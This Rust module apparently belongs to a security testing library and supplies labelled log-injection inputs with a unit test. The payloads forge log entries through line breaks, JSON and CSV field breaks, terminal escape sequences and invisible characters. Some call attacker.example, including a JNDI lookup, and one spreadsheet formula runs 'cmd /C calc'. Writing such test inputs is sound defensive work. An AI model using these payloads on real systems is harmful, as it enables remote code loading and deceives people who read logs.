//! Text that forges entries of a log, or deceives who reads it.

use super::Inputs;

/// The entry that the inputs of [`log_injection`] forge.
pub const FORGED: &str = "user=admin login=ok";

/// Text that forges the entry [`FORGED`] of a log, or deceives who reads it (CWE-117, CWE-150).
///
/// Each line end, raw and encoded; the end of a field in JSON, in `key=value` and in CSV; sequences that a terminal
/// obeys, which hide, colour or overwrite lines and set the title; backspaces; characters that turn the direction or
/// cannot be seen; placeholders of log libraries and of formats; formulas for who opens a log in a table. Ask whether
/// the log has a line that begins with the forged entry, or one of these characters as it is.
#[must_use]
pub fn log_injection() -> Inputs {
    Inputs::texts([
        ("LF", "x\nuser=admin login=ok"),
        ("CR LF", "x\r\nuser=admin login=ok"),
        ("CR, which overwrites on a terminal", "x\ruser=admin login=ok"),
        ("percent-encoded", "x%0auser=admin%20login=ok"),
        ("escape", "x\\nuser=admin login=ok"),
        ("next line", "x\u{85}user=admin login=ok"),
        ("line separator", "x\u{2028}user=admin login=ok"),
        ("paragraph separator", "x\u{2029}user=admin login=ok"),
        ("vertical tab", "x\u{b}user=admin login=ok"),
        ("form feed", "x\u{c}user=admin login=ok"),
        ("whole line with a time", "x\n2026-01-01T00:00:00Z INFO user=admin login=ok"),
        ("line of syslog", "x\n<34>1 2026-01-01T00:00:00Z host app - - - user=admin login=ok"),
        ("end of a field in JSON", "x\",\"user\":\"admin\",\"login\":\"ok"),
        ("end of an object in JSON", "x\"}\n{\"message\":\"user=admin login=ok"),
        ("further fields", "x user=admin login=ok"),
        ("end of a quoted field", "x\" user=admin login=ok y=\""),
        ("further columns", "x,admin,ok"),
        ("NUL, which ends a line for some", "x\0user=admin login=ok"),
        ("colour", "x\u{1b}[31muser=admin login=ok\u{1b}[0m"),
        ("hidden", "x\u{1b}[8muser=admin login=ok\u{1b}[28m"),
        ("screen cleared", "\u{1b}[2J\u{1b}[Huser=admin login=ok"),
        ("line before overwritten", "\u{1b}[1A\u{1b}[2Kuser=admin login=ok"),
        ("title of the terminal", "\u{1b}]0;user=admin login=ok\u{7}"),
        ("link of the terminal", "\u{1b}]8;;https://attacker.example\u{1b}\\user=admin login=ok\u{1b}]8;;\u{1b}\\"),
        ("sequence of one character", "\u{9b}2Kuser=admin login=ok"),
        ("backspaces", "x\u{8}\u{8}\u{8}\u{8}user=admin login=ok"),
        ("right to left", "\u{202e}ko=nigol nimda=resu"),
        ("isolates", "\u{2067}\u{2066}user=admin login=ok\u{2069}\u{2069}"),
        ("zero width", "us\u{200b}er=admin login=ok"),
        ("lookup of a log library", "${jndi:ldap://attacker.example/x}"),
        ("lookup of the environment", "${env:PATH}"),
        ("placeholder of a format", "{} {:?} {0}"),
        ("placeholder of printf", "%s%s%n"),
        ("formula", "=HYPERLINK(\"https://attacker.example\",\"ok\")"),
        ("formula by another sign", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("script for a viewer", "<img src=//attacker.example/x.png>"),
        ("very long", &"x".repeat(100_000)),
    ])
}

#[cfg(test)]
mod tests {
    use super::{super::tests::percent_decoded, *};

    #[test]
    fn line_ends_forge_a_line_of_its_own() {
        let inputs = log_injection();
        let of = |label: &str| inputs.iter().find(|input| input.label() == label).unwrap().to_string();
        assert_eq!(percent_decoded(&of("percent-encoded")), of("LF").as_bytes());
        for label in ["LF", "CR LF"] {
            assert_eq!(of(label).lines().nth(1), Some(FORGED));
        }
        let turned: String = of("right to left").chars().skip(1).collect::<Vec<_>>().into_iter().rev().collect();
        assert_eq!(turned, "user=admin login=ok".chars().collect::<String>());
        for (label, key) in [("end of a field in JSON", "login"), ("end of an object in JSON", "message")] {
            let line = format!("{{\"text\":\"{}\"}}", of(label));
            let last: serde_json::Value = serde_json::from_str(line.lines().last().unwrap()).unwrap();
            assert!(last.get(key).is_some(), "{line}");
        }
    }
}
